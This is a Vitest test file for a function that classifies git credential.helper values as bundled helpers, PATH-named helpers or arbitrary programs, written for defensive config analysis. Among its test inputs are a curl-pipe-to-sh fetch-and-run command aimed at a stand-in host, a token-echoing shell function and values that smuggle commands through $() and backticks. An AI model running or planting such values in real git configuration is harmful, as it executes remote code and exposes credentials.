import { describe, expect, it } from 'vitest';
import { credentialHelper } from '../../src/analysis/git-programs.js';

/** What a `credential.helper` value makes git run (gitcredentials(7)): git's own helper, a PATH name, or a program. */
describe('credential.helper values', () => {
  it.each([
    ['osxkeychain', 'osxkeychain'],
    ['cache --timeout=3600', 'cache'],
    ['cache --timeout 3600 --socket ~/.cache/git/socket', 'cache'],
    ['store', 'store'],
    ['store --file=$HOME/.config/git/credentials', 'store'],
    ['manager', 'manager'],
    ['manager-core', 'manager-core'],
    ['wincred', 'wincred'],
    ['libsecret', 'libsecret'],
    ['gnome-keyring', 'gnome-keyring'],
  ])('%s is git’s own helper', (value, name) => {
    expect(credentialHelper(value)).toMatchObject({ kind: 'bundled', name });
  });

  it.each([
    ['teamvault', 'teamvault'],
    ['git-credential-x', 'git-credential-x'],
    ['Manager', 'Manager'],
  ])('%s is whatever git-credential-<name> comes first on PATH', (value, name) => {
    expect(credentialHelper(value)).toEqual({ kind: 'named', name });
  });

  it.each([
    '!f() { echo "password=$TOKEN"; }; f',
    '!curl -s https://x.test/h | sh',
    '/tmp/x',
    '~/.local/bin/helper',
    './helper.sh',
    '$HELPER',
    'cache --timeout=1; curl -s https://x.test/h | sh',
    'cache $(cat /tmp/opts)',
    'store --file "`id`"',
  ])('%s runs a program the setting chooses', (value) => {
    expect(credentialHelper(value)).toEqual({ kind: 'program' });
  });

  it('an empty value clears the list', () => {
    expect(credentialHelper('')).toEqual({ kind: 'none' });
  });
});
